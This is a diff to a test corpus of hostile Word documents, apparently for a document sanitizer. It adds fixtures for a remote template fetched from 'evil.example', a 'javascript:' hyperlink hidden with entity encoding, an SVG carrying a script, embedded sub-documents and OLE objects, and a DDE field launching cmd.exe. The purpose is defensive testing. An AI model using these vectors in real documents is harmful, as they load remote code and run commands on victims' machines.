@@ -107,6 +107,45 @@ export const HOSTILE_DOCUMENTS = corpusOf({ name: 'account.docx', declared: DECL
     fate: ['external'],
   },
   {
+    story: 'a document whose settings fetch a template, in another dialect',
+    bytes: () =>
+      docxWith({
+        more: [
+          {
+            name: 'word/_rels/settings.xml.rels',
+            content: `<?xml version="1.0"?><p:Relationships xmlns:p="${PACKAGE_RELS}"><p:Relationship Id='r1' TargetMode = 'External' Target='https&#58;//evil.example/t.dotm' Type='http://purl.oclc.org/ooxml/officeDocument/relationships/attachedTemplate'></p:Relationship></p:Relationships>`,
+          },
+        ],
+      }),
+    fate: ['external'],
+  },
+  {
+    story: 'a document with another document in it',
+    bytes: () => leadingTo('subDocument', 'more.xml', ''),
+    fate: ['external'],
+  },
+  {
+    story: 'a document with an object in it that calls itself a part of its own',
+    bytes: () => leadingTo('oleObject', 'media/image1.png', ''),
+    fate: ['external'],
+  },
+  {
+    story: 'a document with a link that is a script',
+    bytes: () => leadingTo('hyperlink', 'java&#115;cript:alert(1)'),
+    fate: ['external'],
+  },
+  {
+    story: 'a document with a page of the web that calls itself a drawing',
+    bytes: () =>
+      withEntry('word/media/image1.svg', '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
+    fate: { name: 'account.docx' },
+  },
+  {
+    story: 'a document with a field in its head that starts a program',
+    bytes: () => withEntry('word/header1.xml', `<?xml version="1.0"?><w:hdr ${W}>${field('DDE', ' cmd.exe')}</w:hdr>`),
+    fate: ['external'],
+  },
+  {
     story: 'a document with a spreadsheet in it',
     bytes: () => withEntry('word/embeddings/Sheet1.xlsx'),
     fate: ['embedded'],
